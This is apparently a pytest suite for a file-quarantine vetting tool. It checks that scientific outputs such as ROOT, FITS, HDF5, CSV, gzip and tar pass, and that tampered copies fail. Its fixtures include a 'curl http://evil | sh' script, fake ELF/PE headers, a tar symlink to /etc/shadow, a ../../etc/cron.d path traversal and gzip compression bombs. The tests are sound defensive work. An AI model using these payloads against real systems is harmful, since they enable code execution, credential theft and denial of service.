"""The lab's real output, written by the real tools, passes the shipped batch policy
byte for byte; the same files with a payload appended, prepended or embedded where it
breaks the structure are rejected with a reason that names the format's rule.

One quarantine holds every case and is vetted once per policy (per-file, so each file
gets its own verdict); the untouched originals beside the broken copies are the control:
they must be accepted in the same run.
"""

from __future__ import annotations

import csv
import dataclasses
import gzip
import hashlib
import io
import json
import os
import struct
import tarfile
import time
import zlib
from pathlib import Path

import pytest

import vmguard
from tests.quarantine.conftest import ELF, write
from vmguard.policy.loader import load_policy
from vmguard.policy.model import PromoteMode, PromotePolicy, Scanners
from vmguard.quarantine.model import Reason, Status, Verdict

np = pytest.importorskip("numpy")
uproot = pytest.importorskip("uproot")
h5py = pytest.importorskip("h5py")
fits = pytest.importorskip("astropy.io.fits")

REPO = Path(__file__).resolve().parents[2]
PE = b"MZ" + b"\0" * 58 + struct.pack("<I", 0x80) + b"\0" * 0x40 + b"PE\0\0" + b"\0" * 200
SCRIPT = b"#!/bin/sh\ncurl http://evil | sh\n"
ZIP_TAIL = b"PK\x05\x06" + b"\0" * 18  # an empty zip's directory: makes a file a "valid" zip
PAYLOADS = {"elf": ELF, "pe": PE, "script": SCRIPT, "zip": ZIP_TAIL}


def shipped(name: str, **changes: object):
    """A shipped policy's quarantine rules, publishing per file to the test's own area.
    Its scanners (clamd, yara) are not what these tests are about (no clamd runs here)."""
    rules = load_policy(REPO / "policy" / name).quarantine
    promote = PromotePolicy(mode=PromoteMode.PER_FILE, file_mode=0o644, dir_mode=0o755)
    return dataclasses.replace(rules, scanners=Scanners(), promote=promote, **changes)


def real_outputs(where: Path) -> dict[str, bytes]:
    """What the lab's jobs write, written by the tools they use."""
    rng = np.random.default_rng(13)
    out: dict[str, bytes] = {}
    with uproot.recreate(where / "events.root") as f:
        f["events"] = {"px": rng.normal(size=50_000), "nhits": rng.integers(0, 40, size=50_000)}
        f["mass"] = np.histogram(rng.normal(91.2, 2.5, size=10_000), bins=60)
    out["events.root"] = (where / "events.root").read_bytes()  # uproot 5.7: f[name] = {...} is an RNTuple
    with uproot.recreate(where / "events-tree.root") as f:  # a TTree: mktree, then extend
        f.mktree("events", {"px": np.float64, "nhits": np.int64})
        for _ in range(3):
            f["events"].extend({"px": rng.normal(size=20_000), "nhits": rng.integers(0, 40, size=20_000)})
        f["mass"] = np.histogram(rng.normal(91.2, 2.5, size=10_000), bins=60)
    out["events-tree.root"] = (where / "events-tree.root").read_bytes()
    for name, hdus in {
        "image.fits": [
            fits.PrimaryHDU(rng.normal(size=(128, 128)).astype("f4")),
            fits.BinTableHDU.from_columns([fits.Column(name="e", format="D", array=rng.normal(size=999))]),
        ],
        "ascii-table.fits": [
            fits.PrimaryHDU(),
            fits.TableHDU.from_columns([fits.Column(name="t", format="F12.4", array=np.arange(37.0))]),
        ],
    }.items():
        tmp = io.BytesIO()
        fits.HDUList(hdus).writeto(tmp)
        out[name] = tmp.getvalue()
    for name, libver in (("data.h5", "earliest"), ("latest.h5", "latest")):
        tmp = io.BytesIO()
        with h5py.File(tmp, "w", libver=libver) as f:
            f["x"] = rng.normal(size=(500, 8))
            f.create_group("run").create_dataset(
                "hits", data=np.arange(20_000), chunks=(1000,), compression="gzip"
            )
            f.attrs["run"] = 42
        out[name] = tmp.getvalue()
    for name, delimiter in (("table.csv", ","), ("table.tsv", "\t")):
        text = io.StringIO()
        writer = csv.writer(text, delimiter=delimiter)
        writer.writerow(["run", "energy", "comment"])
        writer.writerows([i, f"{rng.normal():.6f}", 'ok, "quoted"'] for i in range(2000))
        out[name] = text.getvalue().encode()
    log = "".join(f"2026-12-03 16:{i % 60:02d}:00 INFO event {i} done (µ={i / 7:.3f})\n" for i in range(3000))
    out["job.log"] = log.encode()
    out["windows.log"] = log.encode("utf-16")  # UTF-16 with a byte order mark
    out["fortran.out"] = (
        b"      PROGRAM FIT\n      REAL*8 CHI2\nC     RESULTS\n"
        + b"".join(b" %5d %14.6E %14.6E\n" % (i, i / 3, i * 2.5) for i in range(500))
        + b"1 PAGE 2\n      END\n"  # carriage control '1', no FF: text refuses FF (PuTTY clears)
    )
    out["summary.json"] = json.dumps({"run": 42, "events": 50_000, "cuts": [{"pt": 20.5}] * 50}).encode()
    out["events.csv.gz"] = gzip.compress(out["table.csv"])
    return out


@pytest.fixture(scope="module")
def outputs(tmp_path_factory) -> dict[str, bytes]:
    return real_outputs(tmp_path_factory.mktemp("written"))


def vet_files(tmp_path: Path, files: dict[str, bytes], rules) -> dict[str, object]:
    q = tmp_path / "q"
    for name, data in files.items():
        write(q / name, data)
    result = vmguard.vet(q, rules, tmp_path / "pub" / "run1")
    return {e.path: e for e in result.entries}, result


def test_the_labs_real_output_is_promoted_byte_identical_under_the_shipped_batch_policy(tmp_path, outputs):
    entries, result = vet_files(tmp_path, outputs, shipped("batch.yaml"))
    assert {p: (e.verdict, e.detail) for p, e in entries.items() if e.verdict is not Verdict.ACCEPTED} == {}
    assert result.status is Status.PROMOTED
    for name, data in outputs.items():
        published = (tmp_path / "pub" / "run1" / name).read_bytes()
        assert published == data and entries[name].sha256 == hashlib.sha256(data).hexdigest()
    assert entries["events.root"].mime == "application/x-root"  # libmagic 5.44: octet-stream


BROKEN_RULE = {  # the rule each format's validator names when bytes follow the end
    "events.root": "root: bytes after fEND",
    "events-tree.root": "root: bytes after fEND",
    "image.fits": "fits: bytes after the last HDU",
    "ascii-table.fits": "fits: bytes after the last HDU",
    "data.h5": "hdf5: bytes after the superblock's end-of-file address",
    "latest.h5": "hdf5: bytes after the superblock's end-of-file address",
    "events.csv.gz": "gzip: bytes after the last member",
}


def test_a_payload_after_each_format_is_rejected_naming_the_rule(tmp_path, outputs):
    """ELF, PE, a script or a zip directory appended to every format: refused, and the
    untouched original beside each is accepted in the same run (the control)."""
    files = dict(outputs)
    for name, data in outputs.items():
        for kind, payload in PAYLOADS.items():
            files[f"{kind}-after-{name}"] = data + payload
    entries, _ = vet_files(tmp_path, files, shipped("batch.yaml"))
    for name in outputs:
        assert entries[name].verdict is Verdict.ACCEPTED, entries[name]
        for kind in PAYLOADS:
            entry = entries[f"{kind}-after-{name}"]
            if kind == "script" and name.endswith(".json"):  # JSON no longer, text named .json
                assert entry.reasons == (Reason.NAME_TYPE,), entry
                continue
            if kind == "script" and name not in BROKEN_RULE:
                assert entry.verdict is Verdict.ACCEPTED  # text after text: #! counts only first
                continue
            assert entry.verdict is Verdict.REJECTED, entry
            if name in BROKEN_RULE:
                assert entry.reasons == (Reason.INVALID_FORMAT,) and entry.detail.startswith(
                    BROKEN_RULE[name]
                )
            else:  # text: the payload's bytes are not text
                assert set(entry.reasons) <= {Reason.BINARY_IN_TEXT, Reason.INVALID_FORMAT}, entry


def test_a_payload_before_each_format_is_rejected(tmp_path, outputs):
    files = {
        f"{kind}-before-{name}": payload + data
        for name, data in outputs.items()
        for kind, payload in (("elf", ELF), ("junk", b"\0" * 512), ("script", SCRIPT))
    }
    entries, result = vet_files(tmp_path, files, shipped("batch.yaml"))
    assert result.promoted == 0
    for path, entry in entries.items():
        if path.startswith(("elf-", "script-")):
            assert Reason.EXECUTABLE_CONTENT in entry.reasons, entry
        elif path.startswith("junk-") and path.endswith(".h5"):  # a user block: HDF5, refused naming it
            assert entry.reasons == (Reason.INVALID_FORMAT,), entry
        else:  # no longer the format: no validator admits it
            assert entry.reasons == (Reason.TYPE_NOT_ALLOWED,), entry


def _patched(data: bytes, offset: int, new: bytes) -> bytes:
    return data[:offset] + new + data[offset + len(new) :]


def embedded_cases(outputs: dict[str, bytes]) -> dict[str, tuple[bytes, str]]:
    """Broken structure inside a file -> the start of the rule the vet must name."""
    root, img, h5 = outputs["events.root"], outputs["image.fits"], outputs["data.h5"]
    first_key = struct.unpack_from(">i", root, 8)[0]  # fBEGIN: the first record
    fits_end = img.index(b"END" + b" " * 77)  # the primary header's END card
    data_start = -(-fits_end // 2880) * 2880
    naxis1 = img.index(b"NAXIS1  =")
    eof_at = 8 + 16 + 16  # superblock v0: signature, 16 fixed bytes, base and free-space addresses
    return {
        "root-record-lies.root": (
            _patched(root, first_key + 18, struct.pack(">i", 12345)),
            "root: the record at",
        ),
        "root-fend-short.root": (_patched(root, 12, struct.pack(">i", len(root) - 100)), "root:"),
        "root-elf-before-fbegin.root": (
            _patched(root, 64, b"\x7fELF"),
            "root: bytes between the file header",
        ),
        "fits-header-elf.fits": (
            _patched(img, fits_end + 80, b"\x7fELF"),
            "fits: a header byte is not printable",
        ),
        "fits-bigger-axis.fits": (_patched(img, naxis1, b"NAXIS1  =                  200"), "fits:"),
        "fits-payload-in-fill.fits": (
            _patched(img, data_start + 128 * 128 * 4, b"#!/bin/sh\n"),
            "fits: the fill after a data section",
        ),
        "hdf5-eof-short.h5": (_patched(h5, eof_at, struct.pack("<Q", len(h5) - 4096)), "hdf5:"),
        "hdf5-btree-gone.h5": (_patched(h5, h5.index(b"TREE"), b"\x7fELF"), "hdf5: the root group's B-tree"),
        "hdf5-base-moved.h5": (_patched(h5, eof_at - 16, struct.pack("<Q", 512)), "hdf5: base address"),
        "text-escape.log": (b"ok\n\x1b]0;pwned\x07\n", "text: control character U+001B"),
        "text-bad-utf8.csv": (b"a,b\n1,\x81\n2,3\n", "text: byte 6 is not valid utf-8"),  # nor Latin-1
        "text-utf16-odd.log": ("log line\n".encode("utf-16") + b"\x00", "text: byte"),
        "gzip-truncated.csv.gz": (outputs["events.csv.gz"][:-9], "gzip: the file ends inside a member"),
    }


def test_a_broken_structure_inside_each_format_is_rejected_naming_the_rule(tmp_path, outputs):
    cases = embedded_cases(outputs)
    entries, _ = vet_files(tmp_path, {n: d for n, (d, _) in cases.items()}, shipped("batch.yaml"))
    for name, (_, rule) in cases.items():
        entry = entries[name]
        assert entry.reasons == (Reason.INVALID_FORMAT,) and entry.detail.startswith(rule), entry


def test_nul_in_text_and_executables_inside_gzip_are_rejected(tmp_path, outputs):
    files = {
        "text-then-elf.log": b"all fine\n" * 100 + ELF,
        "zip-after-text.csv": outputs["table.csv"] + ZIP_TAIL,
        "elf.gz": gzip.compress(ELF),
        "script.gz": gzip.compress(SCRIPT),
        "png.gz": gzip.compress(bytes.fromhex("89504e470d0a1a0a0000000d49484452")),
        "gzip-of-gzip-of-elf.gz": gzip.compress(gzip.compress(ELF)),
    }
    entries, _ = vet_files(tmp_path, files, shipped("batch.yaml"))
    assert entries["text-then-elf.log"].reasons == (Reason.BINARY_IN_TEXT,)
    assert entries["zip-after-text.csv"].reasons == (Reason.BINARY_IN_TEXT,)
    for name in ("elf.gz", "script.gz", "gzip-of-gzip-of-elf.gz"):
        assert entries[name].reasons == (Reason.EXECUTABLE_CONTENT,), entries[name]
    assert entries["png.gz"].reasons == (Reason.TYPE_NOT_ALLOWED,)  # what is inside must be allowed too
    assert "image/png" in entries["png.gz"].detail


def test_compression_bombs_are_rejected_quickly_in_bounded_memory(tmp_path):
    bomb = _gzip_of_zeros(512 << 20)  # 512 KiB that inflate to 512 MiB (past the 256 MiB floor)
    layered = gzip.compress(bomb)
    start = time.monotonic()
    entries, _ = vet_files(tmp_path, {"bomb.csv.gz": bomb, "layered.gz": layered}, shipped("batch.yaml"))
    assert time.monotonic() - start < 20
    for entry in entries.values():
        assert entry.reasons == (Reason.INVALID_FORMAT,) and "compression bomb" in entry.detail, entry
    # Found by the ratio, not by running out: the worker has 256 MiB of address space and
    # would have answered nothing (type-unknown) had it tried to hold the output.


def _gzip_of_zeros(size: int) -> bytes:
    z, zeros = zlib.compressobj(9, zlib.DEFLATED, 31), bytes(1 << 20)
    return b"".join(z.compress(zeros) for _ in range(size >> 20)) + z.flush()


def _tar(members: list[tuple[str, bytes | None, int]]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        for name, data, mode in members:
            info = tarfile.TarInfo(name)
            info.mode = mode
            if data is None:
                info.type = tarfile.SYMTYPE
                info.linkname = "/etc/shadow"
                tar.addfile(info)
            else:
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def test_tar_members_are_each_vetted_under_the_build_policy(tmp_path, outputs):
    good = _tar([("logs/job.log", outputs["job.log"], 0o644), ("summary.csv", outputs["table.csv"], 0o644)])
    files = {
        "release.tar": good,
        "release.tar.gz": gzip.compress(good),
        "elf-member.tar": _tar([("a.txt", b"x\n", 0o644), ("tool", ELF, 0o644)]),
        "exec-member.tar": _tar([("run.sh", b"echo hi\n", 0o755)]),
        "link-member.tar": _tar([("a.txt", b"x\n", 0o644), ("shadow", None, 0o777)]),
        "traversal.tar": _tar([("../../etc/cron.d/x", b"x\n", 0o644)]),
        "json-member.tar": _tar([("m.json", b"{}", 0o644)]),  # JSON is not in the build policy
        "trailing.tar": good + ELF,
        "zip-after.tar.gz": gzip.compress(good) + ZIP_TAIL,
    }
    entries, _ = vet_files(tmp_path, files, shipped("build.yaml"))
    assert entries["release.tar"].verdict is Verdict.ACCEPTED, entries["release.tar"]
    assert entries["release.tar.gz"].verdict is Verdict.ACCEPTED, entries["release.tar.gz"]
    assert (tmp_path / "pub" / "run1" / "release.tar").read_bytes() == good
    assert entries["elf-member.tar"].reasons == (Reason.EXECUTABLE_CONTENT,)
    assert entries["json-member.tar"].reasons == (Reason.TYPE_NOT_ALLOWED,)
    # A member's name is held to the walk's own rules (names.py), as if unpacked.
    assert entries["traversal.tar"].reasons == (Reason.NAME_TRAVERSAL,), entries["traversal.tar"]
    assert "../../etc/cron.d/x" in entries["traversal.tar"].detail
    for name, rule in (
        ("exec-member.tar", "tar: member 'run.sh' is executable"),
        ("link-member.tar", "tar: member 'shadow' is a link"),
        ("trailing.tar", "tar: bytes other than zeros after the end-of-archive marker"),
        ("zip-after.tar.gz", "gzip: bytes after the last member"),
    ):
        assert entries[name].reasons == (Reason.INVALID_FORMAT,) and entries[name].detail.startswith(rule), (
            name
        )


def test_archives_are_refused_unless_the_policy_allows_them(tmp_path, outputs):
    tar = _tar([("job.log", outputs["job.log"], 0o644)])
    entries, _ = vet_files(
        tmp_path, {"out.tar": tar, "out.zip": _zip(outputs["job.log"])}, shipped("batch.yaml")
    )
    assert entries["out.tar"].reasons == (Reason.TYPE_NOT_ALLOWED,)
    assert entries["out.zip"].reasons == (Reason.TYPE_NOT_ALLOWED,)


def _zip(data: bytes) -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("job.log", data)
    return out.getvalue()


def test_a_type_without_a_validator_needs_head_only_in_the_policy(tmp_path):
    png = bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489")
    plain = shipped("batch.yaml", allow_types=("text", "image/png"))
    entries, _ = vet_files(tmp_path, {"plot.png": png}, plain)
    assert entries["plot.png"].reasons == (Reason.TYPE_NOT_ALLOWED,)
    assert "validate: head-only" in entries["plot.png"].detail
    marked = shipped("batch.yaml", allow_types=("text", "image/png"), head_only=("image/png",))
    os.rename(tmp_path / "pub", tmp_path / "pub-before")
    entries, _ = vet_files(tmp_path, {"plot.png": png}, marked)
    assert entries["plot.png"].verdict is Verdict.ACCEPTED
